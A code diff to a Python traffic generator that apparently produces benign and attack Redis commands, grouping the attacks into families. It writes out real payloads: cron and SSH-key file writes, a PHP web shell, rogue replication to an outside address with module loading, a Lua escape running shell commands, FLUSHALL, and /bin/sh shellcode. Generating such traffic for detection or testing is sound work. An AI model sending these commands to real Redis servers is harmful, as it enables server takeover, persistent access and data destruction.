@@ -412,7 +412,7 @@ def _redis_benign_cmd(rng: random.Random) -> list[str]:
     if kind == 0:
         return ["GET", key]
     if kind == 1:
-        return ["SET", key, json.dumps({"id": int(uid), "name": rng.choice(WORDS), "ts": rng.randint(1.6e9, 1.7e9)}),
+        return ["SET", key, json.dumps({"id": int(uid), "name": rng.choice(WORDS), "ts": rng.randint(1_600_000_000, 1_700_000_000)}),
                 "EX", str(rng.choice([60, 300, 3600]))]
     if kind == 2:
         return ["HGETALL", key]
@@ -452,23 +452,27 @@ _LUA = ('local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0"
         'local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res')
 
 
-def attack_redis() -> list[bytes]:
-    cmds: list[list[str]] = [
-        ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["CONFIG", "SET", "dbfilename", "root"],
-        ["SET", "x", _CRON], ["SET", "crackit", _SSHKEY], ["CONFIG", "SET", "dir", "/root/.ssh"],
-        ["CONFIG", "SET", "dbfilename", "authorized_keys"], ["CONFIG", "SET", "dir", "/var/www/html"],
-        ["SET", "shell", "<?php system($_GET['cmd']); ?>"], ["CONFIG", "SET", "dbfilename", "shell.php"],
-        ["SLAVEOF", "198.51.100.7", "21000"], ["REPLICAOF", "198.51.100.7", "6379"],
-        ["MODULE", "LOAD", "/tmp/exp.so"], ["system.exec", "cat /etc/passwd"], ["EVAL", _LUA, "0"],
-        ["EVAL", "dofile('/etc/passwd')", "0"], ["CONFIG", "GET", "*"], ["CONFIG", "SET", "protected-mode", "no"],
-        ["FLUSHALL"], ["SAVE"], ["INFO", "server"], ["CLIENT", "LIST"], ["KEYS", "*"],
-        ["AUTH", "' OR 1=1 --"],
-        ["SET", "x", "\x90" * 64 + "\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"],
+def attack_redis() -> dict[str, list[bytes]]:
+    """Attacks seen against exposed Redis, by family, each as RESP and as an inline command."""
+    families: dict[str, list[list[str]]] = {
+        "write-file": [
+            ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["CONFIG", "SET", "dbfilename", "root"],
+            ["SET", "x", _CRON], ["SET", "crackit", _SSHKEY], ["CONFIG", "SET", "dir", "/root/.ssh"],
+            ["CONFIG", "SET", "dbfilename", "authorized_keys"], ["CONFIG", "SET", "dir", "/var/www/html"],
+            ["SET", "shell", "<?php system($_GET['cmd']); ?>"], ["CONFIG", "SET", "dbfilename", "shell.php"],
+        ],
+        "rogue-server": [["SLAVEOF", "198.51.100.7", "21000"], ["REPLICAOF", "198.51.100.7", "6379"],
+                         ["MODULE", "LOAD", "/tmp/exp.so"], ["system.exec", "cat /etc/passwd"]],
+        "lua": [["EVAL", _LUA, "0"], ["EVAL", "dofile('/etc/passwd')", "0"]],
+        "recon": [["CONFIG", "GET", "*"], ["CONFIG", "SET", "protected-mode", "no"], ["FLUSHALL"], ["SAVE"],
+                  ["INFO", "server"], ["CLIENT", "LIST"], ["KEYS", "*"], ["AUTH", "' OR 1=1 --"]],
+        "binary": [["SET", "x", "\x90" * 64 + "\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e"
+                    "\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"]],
+    }
+    out = {name: [enc(*c) for c in cmds for enc in (resp, inline)]
+           for name, cmds in families.items()}
+    out["cross-protocol"] = [
+        b"POST / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\nContent-Type: text/plain\r\n\r\n" + resp("SLAVEOF", "198.51.100.7", "21000"),
+        b"GET /?cmd=config%20set%20dir%20/tmp HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n",
     ]
-    out: list[bytes] = []
-    for c in cmds:
-        out.append(resp(*c))
-        out.append(inline(*c))
-    out.append(b"POST / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\nContent-Type: text/plain\r\n\r\n" + resp("SLAVEOF", "198.51.100.7", "21000"))
-    out.append(b"GET /?cmd=config%20set%20dir%20/tmp HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n")
     return out
